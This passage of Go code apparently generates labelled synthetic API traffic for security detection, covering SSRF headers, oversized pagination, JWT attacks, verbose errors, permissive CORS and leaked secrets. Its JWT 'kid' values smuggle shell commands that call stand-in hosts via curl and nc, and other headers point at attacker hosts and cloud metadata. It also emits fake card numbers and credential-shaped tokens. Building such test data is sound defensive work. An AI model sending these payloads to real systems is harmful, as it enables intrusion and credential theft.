		add(h11X{host: h11Gw, method: "POST", path: fmt.Sprintf("/v1/deliveries/dl_%04x/replay", 0xa100+i), ctype: "application/json", body: h11JS(map[string]any{"reason": "customer asked for a resend", "override_target": u}), status: 202, rbody: `{"queued":true}`, labels: h11L(h11SSRF)})
	}
	hdrs := []struct{ k, v string }{{"X-Forwarded-Host", "169.254.169.254"}, {"X-Original-Host", "10.0.0.3"}, {"X-Host", "127.0.0.1:8080"}, {"X-Forwarded-Server", "metadata.google.internal"}, {"X-HTTP-Host-Override", "192.168.1.20"}}
	for i, h := range hdrs {
		add(h11X{host: []string{h11Gw, h11Air, h11Lab}[i%3], method: "GET", path: []string{"/v1/routes", "/v2/members/me", "/fhir/r4/metadata"}[i%3], hdr: map[string][]string{h.k: {h.v}}, status: 200, rbody: `{"ok":true}`, labels: h11L(h11SSRF)})
	}

	// --- resource limits ---
	lims := []string{
		"/v2/members/me/transactions?limit=100000", "/v2/partners?per_page=50000", "/v1/deliveries?pageSize=99999", "/v1/routes?page_size=10000",
		"/v2/vouchers?$top=250000", "/v2/redemptions?maxItems=5000", "/fhir/r4/Observation?results_per_page=1000000", "/v1/keys?itemsPerPage=20000",
		"/v1/deliveries?max_results=75000", "/v2/members/me/transactions?maxResults=9999999", "/v1/webhooks/wh_3KpL9/deliveries?limit=2147483647",
		"/v2/partners?page[size]=100000", "/v1/deliveries/per_page/50000", "/fhir/r4/Patient?perPage=30000", "/v2/redemptions?numResults=64000",
		"/v1/routes?max_per_page=100000", "/v2/vouchers?PageSize=1000000", "/v1/deliveries?Limit=99999", "/fhir/r4/DiagnosticReport?rowsPerPage=40000",
		"/v2/members/me/transactions?LIMIT=50001", "/v1/deliveries?per-page=25000", "/v1/logs?pagesize=99999&page=1", "/v2/partners?max_items=120000",
		"/fhir/r4/Observation?items_per_page=8000", "/v1/keys?limit=50000&offset=100", "/v2/members/me/transactions?page_limit=100000", "/fhir/r4/Observation?maxPageSize=50000", "/v1/deliveries?$top=99999&$skip=0", "/v2/partners?limit=99999999999", "/v1/keys/per_page/9999", "/v2/vouchers?itemsPerPage=5000", "/v2/redemptions?top=30000",
	}
	for i, p := range lims {
		h := h11Gw
		if strings.HasPrefix(p, "/v2") {
			h = h11Air
		} else if strings.HasPrefix(p, "/fhir") {
			h = h11Lab
		}
		add(h11X{host: h, method: "GET", path: p, status: []int{200, 200, 400, 200}[i%4], rbody: `{"data":[],"next":null}`, labels: h11L(h11Lim)})
	}
	limJSON := []struct{ host, path, body string }{
		{h11Gw, "/v1/deliveries/search", `{"query":{"status":"failed"},"pagination":{"size":100000,"cursor":null}}`},
		{h11Gw, "/v1/deliveries/search", `{"from":0,"size":50000,"sort":[{"created_at":"desc"}]}`},
		{h11Air, "/v2/members/search", `{"filter":{"tier":"gold"},"page":{"size":99999,"number":1}}`},
		{h11Air, "/v2/redemptions/export", `{"options":{"paging":{"limit":250000}}}`},
		{h11Lab, "/fhir/r4/Observation/_search", `{"criteria":{"code":"2345-7"},"paging":{"pageSize":80000}}`},
		{h11Gw, "/v1/routes/query", `{"request":{"params":{"per_page":12000}}}`},
		{h11Air, "/v2/partners/query", `{"pageable":{"size":40000,"page":0}}`},
		{h11Lab, "/fhir/r4/DiagnosticReport/_search", `{"maxResults":500000}`},
		{h11Gw, "/v1/keys/query", `{"pager":{"size":9000}}`},
		{h11Air, "/v2/vouchers/query", `{"a":{"b":{"c":{"limit":30000}}}}`},
		{h11Gw, "/graphql", `{"query":"query D($n:Int!){ deliveries(limit: $n) { id status } }","variables":{"n":500000}}`},
		{h11Gw, "/graphql", `{"query":"{ routes(pageSize: 100000) { edges { node { id } } } }"}`},
		{h11Air, "/graphql", `{"query":"query($p:Int){ member(id:\"me\"){ transactions(perPage:$p){ id miles } } }","variables":{"p":75000}}`},
		{h11Lab, "/graphql", `{"query":"{ observations(patient:\"p-1\", limit: 99999) { id value } }"}`},
		{h11Air, "/graphql", `{"query":"query M($s:Int){ members(tier:\"gold\", pageSize:$s){ id } }","variables":{"s":60000}}`},
		{h11Gw, "/v1/deliveries/search", `{"filters":{"status":"failed"},"limit":"100000"}`},
	}
	for _, j := range limJSON {
		add(h11X{host: j.host, method: "POST", path: j.path, ctype: "application/json", body: j.body, status: 200, rbody: `{"data":[],"total":0}`, labels: h11L(h11Lim)})
	}
	for i, f := range []string{"per_page=40000&status=failed", "limit=99999&sort=created", "pageSize=120000", "max_results=88888&q=hotel"} {
		add(h11X{host: []string{h11Gw, h11Air}[i%2], method: "POST", path: []string{"/v1/deliveries/list", "/v2/partners/list"}[i%2], ctype: "application/x-www-form-urlencoded", body: f, status: 200, rbody: `{"data":[]}`, labels: h11L(h11Lim)})
	}
	for i := 0; i < 4; i++ {
		big := 11*1024*1024 + i*4096
		add(h11X{host: []string{h11Gw, h11Lab}[i%2], method: "POST", path: []string{"/v1/deliveries/bulk-replay", "/fhir/r4/Bundle"}[i%2], ctype: "application/json", body: `{"items":[{"id":"dl_` + h11Hex(r, 8) + `"}`, status: 413, rbody: `{"error":"payload_too_large"}`, labels: h11L(h11Lim), tok: fmt.Sprintf("size:%d", big)})
	}
	for _, p := range []string{"/v2/members/me/transactions?limit=100000&offset=0", "/v1/deliveries?pageSize=5000", "/fhir/r4/Observation?per_page=1001", "/v2/partners?perPage=2500", "/v1/keys?limit=1500", "/v1/deliveries?per_page=20000&cursor=abc"} {
		h := h11Gw
		if strings.HasPrefix(p, "/v2") {
			h = h11Air
		} else if strings.HasPrefix(p, "/fhir") {
			h = h11Lab
		}
		add(h11X{host: h, method: "GET", path: p, status: 200, rbody: `{"data":[],"next":null}`, labels: h11L(h11Lim)})
	}
	return out
}

// h11JWTAttacks builds requests whose bearer token is the attack.
func h11JWTAttacks(r *rand.Rand) []h11X {
	var out []h11X
	iat := h11Base.Add(-2 * time.Hour)
	exp := h11Base.Add(30 * 24 * time.Hour)
	targets := []struct{ host, path string }{{h11Air, "/v2/members/me"}, {h11Gw, "/v1/keys"}, {h11Lab, "/fhir/r4/Patient/p-20931"}, {h11Air, "/v2/vouchers"}, {h11Gw, "/v1/routes"}, {h11Lab, "/fhir/r4/DiagnosticReport?patient=p-40211"}}
	roles := []string{"member", "tenant_admin", "clinician", "member", "developer", "lab_tech"}
	n := 0
	add := func(tok string) {
		t := targets[n%len(targets)]
		out = append(out, h11X{host: t.host, method: "GET", path: t.path, status: 200, rbody: `{"ok":true}`, labels: h11L(h11JWT), tok: tok})
		n++
	}
	cl := func() string {
		return h11Claims(fmt.Sprintf("u-%05d", 90000+n), roles[n%len(roles)], iat, iat, exp, []string{"https://auth.skyloyal.test", "https://id.relaygate.test", "https://login.helixdx.test"}[n%3])
	}
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		add(h11JWTRaw(`{"alg":"`+alg+`","typ":"JWT"}`, cl(), false) + ".")
		add(h11JWTRaw(`{"typ":"JWT","alg":"`+alg+`"}`, cl(), false))
	}
	for i := 0; i < 6; i++ {
		add(h11JWTRaw(`{"alg":"HS256","typ":"JWT"}`, cl(), false) + ".")
		add(h11JWTRaw(`{"alg":"RS256","typ":"JWT","kid":"2026-11-key_1"}`, cl(), false))
	}
	for i := 0; i < 10; i++ {
		e := h11Base.Add(-time.Duration(1+i*37) * time.Hour)
		add(h11JWTRaw(`{"alg":"HS256","typ":"JWT"}`, h11Claims(fmt.Sprintf("u-%05d", 91000+i), roles[i%6], e.Add(-time.Hour), e.Add(-time.Hour), e, "https://auth.skyloyal.test"), true))
	}
	for i := 0; i < 6; i++ {
		nb := h11Base.Add(time.Duration(24+i*48) * time.Hour)
		add(h11JWTRaw(`{"alg":"HS256","typ":"JWT"}`, h11Claims(fmt.Sprintf("u-%05d", 92000+i), roles[i%6], iat, nb, nb.Add(72*time.Hour), "https://id.relaygate.test"), true))
	}
	kids := []string{"../../../../../../dev/null", "../../keys/../../../etc/hostname", "x' UNION SELECT 'secret'--", "key1|id", "k; curl http://x.evil.test/$(whoami)", "$(id)", "key && whoami", "/proc/self/environ", "1' OR '1'='1", "`sleep 5`", "..\\..\\..\\windows\\win.ini", "kid_2026|nc 198.51.100.66 4444"}
	for _, k := range kids {
		h, _ := json.Marshal(map[string]string{"alg": "HS256", "typ": "JWT", "kid": k})
		add(h11JWTRaw(string(h), cl(), true))
	}
	for _, u := range []string{"https://x.evil.test/.well-known/jwks.json", "http://127.0.0.1:8000/jwks.json", "http://169.254.169.254/latest/meta-data/", "https://jwks.attacker.example/keys", "http://10.0.0.8/jwks"} {
		add(h11JWTRaw(`{"alg":"RS256","typ":"JWT","jku":"`+u+`"}`, cl(), true))
	}
	for _, u := range []string{"https://x.evil.test/cert.pem", "http://192.168.1.50/x5u.crt", "https://certs.attacker.example/c.pem"} {
		add(h11JWTRaw(`{"alg":"RS256","typ":"JWT","x5u":"`+u+`"}`, cl(), true))
	}
	for i := 0; i < 5; i++ {
		jwk := fmt.Sprintf(`{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","kid":"attacker-%d","n":"%s"}}`, i, h11b64([]byte(h11Alnum(r, 180))))
		add(h11JWTRaw(jwk, cl(), true))
	}
	return out
}

func h11Verbose(r *rand.Rand) []h11X {
	bodies := []string{
		"{\"error\":\"Internal Server Error\",\"trace\":\"java.lang.NullPointerException: Cannot invoke \\\"com.skyloyal.miles.Ledger.balance()\\\" because \\\"ledger\\\" is null\\n\\tat com.skyloyal.miles.MilesService.credit(MilesService.java:214)\\n\\tat com.skyloyal.api.MembersController.miles(MembersController.java:88)\\n\\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)\"}",
		"Traceback (most recent call last):\n  File \"/srv/helix/app/views/observations.py\", line 141, in create\n    value = float(payload[\"valueQuantity\"][\"value\"])\nKeyError: 'valueQuantity'\n",
		"panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1184 [running]:\nmain.(*relay).replay(0xc0001a2000, {0xc00042e1e0, 0x18})\n\t/build/relay/replay.go:212 +0x3a5\nnet/http.HandlerFunc.ServeHTTP(0xc000124a80, {0x9b8e40, 0xc0003b61c0}, 0xc000512300)\n\t/usr/local/go/src/net/http/server.go:2166 +0x29\n",
		"{\"message\":\"An error has occurred.\",\"exceptionMessage\":\"Object reference not set to an instance of an object.\",\"exceptionType\":\"System.NullReferenceException\",\"stackTrace\":\"   at SkyLoyal.Api.Controllers.VouchersController.Redeem(String code) in C:\\\\src\\\\SkyLoyal.Api\\\\Controllers\\\\VouchersController.cs:line 57\\r\\n   at lambda_method(Closure , Object , Object[] )\"}",
		"{\"error\":\"TypeError: Cannot read properties of undefined (reading 'targets')\\n    at RouteStore.resolve (/app/src/routes/store.js:77:31)\\n    at async Promise.all (index 0)\\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\"}",
		"<br />\n<b>Fatal error</b>:  Uncaught Error: Call to a member function fetch() on bool in /var/www/partners/src/Repository/PartnerRepository.php:42\nStack trace:\n#0 /var/www/partners/public/index.php(18): PartnerRepository->find('4412')\n#1 {main}\n  thrown in <b>/var/www/partners/src/Repository/PartnerRepository.php</b> on line <b>42</b><br />\n",
		"{\"status\":500,\"error\":\"NoMethodError\",\"message\":\"undefined method `miles' for nil:NilClass\",\"backtrace\":[\"app/services/redemption_service.rb:31:in `call'\",\"app/controllers/redemptions_controller.rb:12:in `create'\"]}",
		"thread 'tokio-runtime-worker' panicked at src/delivery/retry.rs:118:40:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n",
		"{\"error\":\"SQLSTATE[42S22]: Column not found: 1054 Unknown column 'tier_code' in 'field list'\"}",
		"{\"error\":\"pq: relation \\\"lab_observations_v2\\\" does not exist\"}",
		"{\"error\":\"ERROR: duplicate key value violates unique constraint \\\"members_email_key\\\"\\nDETAIL:  Key (email)=(kim@example.test) already exists.\"}",
		"{\"error\":\"SQLITE_CONSTRAINT: UNIQUE constraint failed: api_keys.prefix\"}",
		"{\"error\":\"Msg 208, Level 16, State 1, Line 1\\nInvalid object name 'dbo.PartnerRates'.\"}",
		"{\"error\":\"ORA-01722: invalid number\\nORA-06512: at \\\"LOYALTY.PKG_MILES\\\", line 88\"}",
		"{\"error\":\"sql: Scan error on column index 3, name \\\"expires_at\\\": unsupported Scan, storing driver.Value type <nil> into type *time.Time\"}",
		"<!DOCTYPE html><html><head><title>OperationalError at /fhir/r4/Observation</title></head><body><div id=\"summary\"><h1>OperationalError at /fhir/r4/Observation</h1><pre class=\"exception_value\">no such column: observation.loinc</pre><table class=\"meta\"><tr><th>Django Version:</th><td>4.2.7</td></tr><tr><th>Exception Location:</th><td>/usr/local/lib/python3.11/site-packages/django/db/backends/sqlite3/base.py, line 328, in execute</td></tr></table></div><div id=\"traceback\"></div><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></body></html>",
		"<!doctype html><html lang=\"en\"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><p><b>Type</b> Exception Report</p><p><b>Exception</b></p><pre>javax.servlet.ServletException: java.lang.IllegalStateException: Voucher already consumed\n\torg.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:196)\n</pre><h3>Apache Tomcat/9.0.82</h3></body></html>",
		"{\"message\":\"Undefined array key \\\"upstream\\\"\",\"exception\":\"ErrorException\",\"file\":\"/var/www/relay/app/Http/Controllers/RouteController.php\",\"line\":64,\"trace\":[{\"file\":\"/var/www/relay/vendor/laravel/framework/src/Illuminate/Routing/Controller.php\",\"line\":54,\"function\":\"update\"}]}",
		"<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div>org.springframework.dao.DataIntegrityViolationException: could not execute statement; SQL [n/a]; constraint [fk_redemption_partner]\n\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:276)</div></body></html>",
		"\nWarning: Undefined variable $tier in /var/www/partners/templates/rates.php on line 23\n{\"rates\":[]}",
		"{\"errors\":[{\"message\":\"Cannot return null for non-nullable field Delivery.status\",\"extensions\":{\"exception\":{\"stacktrace\":[\"Error: Cannot return null for non-nullable field Delivery.status.\",\"    at completeValue (/app/node_modules/graphql/execution/execute.js:594:13)\",\"    at executeField (/app/node_modules/graphql/execution/execute.js:489:19)\"]}}}]}",
		"{\"error\":\"Exception in thread \\\"pool-3-thread-7\\\" java.util.concurrent.RejectedExecutionException: Task rejected from java.util.concurrent.ThreadPoolExecutor@5e9f23b4\\n\\tat java.base/java.util.concurrent.ThreadPoolExecutor.reject(ThreadPoolExecutor.java:2065)\"}",
		"{\"detail\":\"Traceback (most recent call last):\\n  File \\\"/app/relay/workers/replay.py\\\", line 58, in run\\n    resp = session.post(target, json=body, timeout=5)\\nrequests.exceptions.ConnectionError: HTTPConnectionPool(host='orders', port=80)\"}",
		"{\"error\":\"Npgsql.PostgresException (0x80004005): 23503: insert or update on table \\\"attachments\\\" violates foreign key constraint \\\"attachments_report_id_fkey\\\"\"}",
		"{\"name\":\"SequelizeDatabaseError\",\"parent\":{\"code\":\"42703\",\"sql\":\"SELECT \\\"id\\\", \\\"tier\\\" FROM \\\"members\\\" WHERE \\\"members\\\".\\\"tierx\\\" = 'gold';\"},\"original\":{\"message\":\"column members.tierx does not exist\"}}",
		"{\"error\":\"Illuminate\\\\Database\\\\QueryException: SQLSTATE[HY000] [2002] Connection refused (SQL: select * from `partners` where `id` = 4412 limit 1)\"}",
		"{\"exception\":\"Symfony\\\\Component\\\\HttpKernel\\\\Exception\\\\NotFoundHttpException\",\"message\":\"No route found for \\\"GET /v2/rates/legacy\\\"\",\"trace\":[{\"namespace\":\"\",\"short_class\":\"\",\"class\":\"\",\"type\":\"\",\"function\":\"\",\"file\":\"/srv/app/vendor/symfony/http-kernel/EventListener/RouterListener.php\",\"line\":127}]}",
		"{\"error\":\"System.InvalidOperationException: Sequence contains no elements\\r\\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\\r\\n   at Helix.Fhir.Services.ReportService.Latest(Guid patientId) in /src/Helix.Fhir/Services/ReportService.cs:line 203\"}",
		"{\"message\":\"Error: connect ECONNREFUSED 10.2.0.14:5432\\n    at TCPConnectWrapper.afterConnect [as oncomplete] (node:net:1555:16)\"}",
		"{\"error\":\"com.mysql.cj.jdbc.exceptions.CommunicationsException: Communications link failure\\n\\nThe last packet sent successfully to the server was 0 milliseconds ago.\"}",
		"{\"error\":\"ActiveRecord::StatementInvalid: PG::UndefinedTable: ERROR:  relation \\\"vouchers_archive\\\" does not exist\\nLINE 1: SELECT \\\"vouchers_archive\\\".* FROM \\\"vouchers_archive\\\"\\n                      ^\"}",
		"Parse error: syntax error, unexpected token \"}\" in /var/www/html/hooks/receive.php on line 77\n",
		"{\"error\":\"ReferenceError: tenantId is not defined\\n    at file:///app/dist/keys/rotate.mjs:41:18\\n    at ModuleJob.run (node:internal/modules/esm/module_job:234:25)\"}",
		"{\"error\":\"org.hibernate.exception.SQLGrammarException: could not extract ResultSet\",\"cause\":\"org.postgresql.util.PSQLException: ERROR: column p.loinc_code does not exist\\n  Position: 58\"}",
		"<!DOCTYPE html><html><head><title>KeyError: 'member' // Werkzeug Debugger</title></head><body><h1>KeyError</h1><div class=\"traceback\"><h3>Traceback <em>(most recent call last)</em></h3><pre>File \"/srv/loyalty/app.py\", line 88, in miles\n    member = session['member']\nKeyError: 'member'</pre></div></body></html>",
		"<html><head><title>Runtime Error</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Input string was not in a correct format.</i></h2><b>Exception Details: </b>System.FormatException: Input string was not in a correct format.<br><pre>[FormatException: Input string was not in a correct format.]\r\n   System.Number.StringToNumber(String str, NumberStyles options) +14206343\r\n   Helix.Web.ReportsController.Get(String id) in D:\\build\\Helix.Web\\ReportsController.cs:41\r\n</pre></body></html>",
		"{\"error\":\"NameError: uninitialized constant PartnersController::RateTable\",\"backtrace\":[\"app/controllers/partners_controller.rb:9:in 'PartnersController#rates'\"]}",
		"{\"error\":\"java.sql.SQLSyntaxErrorException: Table 'loyalty.vouchers_v2' doesn't exist\"}",
		"<br />\n<b>Notice</b>:  Undefined index: tier in <b>/var/www/partners/api/rates.php</b> on line <b>12</b><br />\n{\"rates\":[]}",
		"{\"message\":\"Error: ENOENT: no such file or directory, open '/app/templates/voucher.hbs'\\n    at Object.openSync (node:fs:596:3)\\n    at Object.readFileSync (node:fs:464:35)\\n    at renderVoucher (/app/src/render.js:12:20)\"}",
		"ERROR 1146 (42S02): Table 'loyalty.partner_rates' doesn't exist\n",
		"{\"detail\":\"sqlite3.OperationalError: no such table: observations_tmp\"}",
		"{\"error\":\"thread 'main' panicked at src/relay/keys.rs:44:10:\\ncalled `Result::unwrap()` on an `Err` value: Io(Kind(NotFound))\"}",
		"{\"error\":\"System.Data.SqlClient.SqlException (0x80131904): Invalid column name 'Tier'.\\r\\n   at System.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)\"}",
		"{\"error\":\"panic: assignment to entry in nil map\\n\\ngoroutine 77 [running]:\\nmain.(*keyStore).rotate(...)\\n\\t/build/relay/keys.go:88 +0x1c4\"}",
		"{\"error\":\"Microsoft.Data.SqlClient.SqlException (0x80131904): Cannot insert duplicate key row in object 'dbo.Members' with unique index 'IX_Members_Email'.\"}",
	}
	eps := []struct{ host, method, path string }{
		{h11Air, "GET", "/v2/members/me/miles"}, {h11Lab, "POST", "/fhir/r4/Observation"}, {h11Gw, "POST", "/v1/deliveries/dl_8812/replay"},
		{h11Air, "POST", "/v2/vouchers/redeem"}, {h11Gw, "GET", "/v1/routes/rt_orders"}, {h11Air, "GET", "/v2/partners/4412"},
		{h11Air, "POST", "/v2/redemptions"}, {h11Gw, "POST", "/v1/deliveries/dl_4410/replay"}, {h11Air, "GET", "/v2/members/me/tier"},
		{h11Lab, "GET", "/fhir/r4/Observation?code=2345-7"}, {h11Air, "POST", "/v2/members"}, {h11Gw, "POST", "/v1/keys"},
	}
	var out []h11X
	for i, b := range bodies {
		e := eps[i%len(eps)]
		ct := "application/json"
		if !strings.HasPrefix(b, "{") {
			ct = "text/html; charset=utf-8"
			if strings.HasPrefix(b, "Traceback") || strings.HasPrefix(b, "panic") || strings.HasPrefix(b, "thread") || strings.HasPrefix(b, "Parse") || strings.HasPrefix(b, "ERROR") {
				ct = "text/plain; charset=utf-8"
			}
		}
		x := h11X{host: e.host, method: e.method, path: e.path, status: 500, rctype: ct, rbody: b, labels: h11L(h11Verb)}
		if e.method == "POST" {
			x.ctype, x.body = "application/json", `{"note":"retry after upstream timeout"}`
		}
		out = append(out, x)
	}
	cors := []struct{ origin, acao string }{
		{"https://x.evil.test", "https://x.evil.test"}, {"null", "null"}, {"https://skyloyal.test.attacker.example", "https://skyloyal.test.attacker.example"},
		{"https://evil-relay.example", "*"}, {"https://phish.example.net", "https://phish.example.net"}, {"http://foo.attacker.example", "http://foo.attacker.example"},
		{"https://labs-helixdx.example.org", "https://labs-helixdx.example.org"}, {"null", "*"},
	}
	ceps := []struct{ host, path string }{{h11Air, "/v2/members/me"}, {h11Lab, "/fhir/r4/Patient/p-20931"}, {h11Gw, "/v1/keys"}, {h11Air, "/v2/vouchers"}}
	for i, c := range cors {
		e := ceps[i%len(ceps)]
		out = append(out, h11X{host: e.host, method: "GET", path: e.path, hdr: map[string][]string{"Origin": {c.origin}}, status: 200,
			rhdr:  map[string][]string{"Access-Control-Allow-Origin": {c.acao}, "Access-Control-Allow-Credentials": {"true"}, "Vary": {"Origin"}},
			rbody: `{"id":"me","tier":"silver"}`, labels: h11L(h11Verb)})
	}
	_ = r
	return out
}

func h11Sensitive(r *rand.Rand) []h11X {
	var out []h11X
	add := func(host, path, ctype, body string) {
		out = append(out, h11X{host: host, method: "GET", path: path, status: 200, rctype: ctype, rbody: body, labels: h11L(h11Sens)})
	}
	type cardT struct {
		prefix string
		n      int
	}
	cards := []cardT{{"4", 16}, {"51", 16}, {"2221", 16}, {"37", 15}, {"6011", 16}, {"3528", 16}, {"62", 16}, {"6759", 16}, {"2200", 16}, {"34", 15}, {"55", 16}, {"4", 16}}
	for i, c := range cards {
		pan := h11Luhn(c.prefix, c.n, r)
		switch i % 6 {
		case 0:
			add(h11Air, "/v2/members/me/payment-methods", "application/json", h11JS(map[string]any{"payment_methods": []any{map[string]any{"id": "pm_" + h11Alnum(r, 14), "card_number": pan, "exp_month": 9, "exp_year": 2029}}}))
		case 1:
			add(h11Air, "/v2/redemptions/rd_"+h11Hex(r, 8), "application/json", h11JS(map[string]any{"redemption": map[string]any{"miles": 12000, "payment": map[string]any{"method": "card", "number": pan, "holder": "ANA SOUSA"}}}))
		case 2:
			g := pan[:4] + " " + pan[4:8] + " " + pan[8:12] + " " + pan[12:]
			add(h11Air, "/v2/support/tickets/TCK-"+fmt.Sprint(880000+i), "application/json", h11JS(map[string]any{"ticket": map[string]any{"messages": []any{map[string]any{"from": "agent", "text": "We charged the card " + g + " for the fee, please confirm."}}}}))
		case 3:
			add(h11Air, "/v2/exports/payments.csv", "text/csv", "member_id,card_number,amount\nM-44120,"+pan+",49.00\nM-44121,"+h11Luhn("4", 16, r)+",12.50\n")
		case 4:
			add(h11Gw, "/v1/deliveries/dl_"+h11Hex(r, 10), "application/json", h11JS(map[string]any{"delivery": map[string]any{"status": 200, "response_body": map[string]any{"charge": map[string]any{"pan": pan, "cvv": "381"}}}}))
		case 5:
			add(h11Air, "/v2/vouchers/gift/"+h11Hex(r, 6), "application/json", h11JS(map[string]any{"voucher": map[string]any{"paid_with": map[string]any{"cc_number": pan, "expiry": "04/28"}}}))
		}
	}
	secrets := []struct{ host, path, ctype, body string }{
		{h11Gw, "/v1/tenants/acme/settings", "application/json", `{"integrations":{"github":{"token":"ghp_` + h11Alnum(r, 36) + `"}}}`},
		{h11Gw, "/v1/upstreams/up_1/credentials", "application/json", `{"gitlab_token":"glpat-` + h11Alnum(r, 20) + `"}`},
		{h11Gw, "/v1/webhooks/wh_slack", "application/json", `{"destination":"slack","bot_token":"xoxb-` + fmt.Sprint(100000000000+r.IntN(1e9)) + `-` + fmt.Sprint(200000000000+r.IntN(1e9)) + `-` + h11Alnum(r, 24) + `"}`},
		{h11Gw, "/v1/tenants/acme/registry", "application/json", `{"npm_token":"npm_` + h11Alnum(r, 36) + `"}`},
		{h11Gw, "/v1/upstreams/up_shop", "application/json", `{"upstream":{"url":"https://acme-store.myshopify.example/admin/api","headers":{"X-Shopify-Access-Token":"shpat_` + h11Hex(r, 32) + `"}}}`},
		{h11Air, "/v2/partners/ptn_4412/billing", "application/json", `{"stripe":{"secret_key":"sk_live_` + h11Alnum(r, 24) + `"}}`},
		{h11Gw, "/v1/upstreams/up_ai", "application/json", `{"upstream":{"auth":{"type":"bearer","value":"sk-proj-` + h11Alnum(r, 48) + `"}}}`},
		{h11Gw, "/v1/upstreams/up_claude", "application/json", `{"api_key":"sk-ant-api03-` + h11Alnum(r, 93) + `AA"}`},
		{h11Gw, "/v1/tenants/acme/aws", "application/json", `{"aws_access_key_id":"AKIA` + h11Up(r, 16) + `","aws_secret_access_key":"` + h11Alnum(r, 40) + `"}`},
		{h11Lab, "/fhir/r4/Binary/storage-config", "application/json", `{"connection_string":"DefaultEndpointsProtocol=https;AccountName=helixlabdocs;AccountKey=` + base64.StdEncoding.EncodeToString([]byte(h11Alnum(r, 64))) + `;EndpointSuffix=core.windows.net"}`},
		{h11Lab, "/fhir/r4/DocumentReference/dr-1/share", "application/json", `{"url":"https://helixlabdocs.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-01-01T00:00:00Z&st=2026-11-01T00:00:00Z&spr=https&sig=` + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(h11Alnum(r, 32)))) + `"}`},
		{h11Gw, "/v1/upstreams/up_db", "application/json", `{"upstream":{"dsn":"postgres://relay_app:Vq8!rTz2mLp4@db-primary.relaygate.internal:5432/relay"}}`},
		{h11Air, "/v2/debug/env", "text/plain", "APP_ENV=production\nDB_HOST=10.4.0.12\nDB_PASSWORD=9fK2qLx7VpM3tRz\nJWT_SECRET=" + h11Alnum(r, 48) + "\n"},
		{h11Lab, "/fhir/r4/.config", "text/plain", "[database]\nhost = pg.helix.internal\nuser = fhir\npassword = Tr0ub4dor&3xyz\n"},
		{h11Gw, "/v1/config/export", "application/toml", "[smtp]\nhost = \"smtp.relaygate.test\"\nusername = \"relay\"\npassword = \"m4ilP@ss-20261\"\n"},
		{h11Air, "/v2/members/M-20012", "application/json", `{"member":{"id":"M-20012","email":"lee@example.test","password_hash":"$2b$12$` + h11Alnum(r, 53) + `"}}`},
		{h11Air, "/v2/members?tier=gold", "application/json", `{"members":[{"id":"M-1","password":"Summer2026!"},{"id":"M-2","password":"Blue-Falcon-77"}]}`},
		{h11Lab, "/fhir/r4/Practitioner/pr-12", "application/json", `{"resourceType":"Practitioner","id":"pr-12","login":{"pwd_sha256":"` + h11Hex(r, 64) + `"}}`},
		{h11Gw, "/v1/keys/key_77/export", "application/x-pem-file", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA" + h11Alnum(r, 64) + "\n" + h11Alnum(r, 64) + "\n-----END RSA PRIVATE KEY-----\n"},
		{h11Gw, "/v1/tls/certs/cert_12", "application/json", `{"cert":"-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----","private_key":"-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg` + h11Alnum(r, 40) + `\n-----END PRIVATE KEY-----"}`},
		{h11Gw, "/v1/signing-keys", "application/json", `{"keys":[{"kty":"EC","crv":"P-256","kid":"sig-2026","x":"` + h11b64([]byte(h11Alnum(r, 32))) + `","y":"` + h11b64([]byte(h11Alnum(r, 32))) + `","d":"` + h11b64([]byte(h11Alnum(r, 32))) + `"}]}`},
		{h11Gw, "/v1/webhooks/wh_3KpL9", "application/json", `{"id":"wh_3KpL9","signing_secret":"whsec_` + h11Alnum(r, 32) + `"}`},
		{h11Air, "/v2/partners/ptn_88/api", "application/json", `{"partner":"Alpine Hotels","client_id":"alp-prod","client_secret":"` + h11Alnum(r, 40) + `"}`},
		{h11Gw, "/v1/upstreams/up_pay", "application/json", `{"square_access_token":"sq0atp-` + h11Alnum(r, 22) + `"}`},
		{h11Lab, "/fhir/r4/Endpoint/ep-3", "application/json", `{"resourceType":"Endpoint","address":"https://hl7.partnerlab.example/fhir","header":["Authorization: Basic ` + base64.StdEncoding.EncodeToString([]byte("helix:"+h11Alnum(r, 14))) + `"],"api_token":"` + h11Alnum(r, 40) + `"}`},
		{h11Gw, "/v1/upstreams/up_redis", "application/json", `{"cache":{"url":"redis://:Rk9x2Lm7Qp@cache-1.relaygate.internal:6379/0"}}`},
		{h11Air, "/v2/sessions/active", "application/json", `{"sessions":[{"member":"M-77","session_token":"` + h11Alnum(r, 64) + `","ip":"198.51.100.9"}],"admin_api_key":"ak_live_` + h11Alnum(r, 32) + `"}`},
		{h11Lab, "/fhir/r4/Organization/org-1/smtp", "application/json", `{"smtp":{"host":"smtp.helixdx.test","user":"noreply","password":"H3lix-Mail-2026"}}`},
		{h11Gw, "/v1/tenants/acme/secrets", "application/json", `{"secrets":{"GITHUB_TOKEN":"ghs_` + h11Alnum(r, 36) + `","SLACK_WEBHOOK":"https://hooks.slack.com/services/T0` + h11Up(r, 8) + `/B0` + h11Up(r, 8) + `/` + h11Alnum(r, 24) + `"}}`},
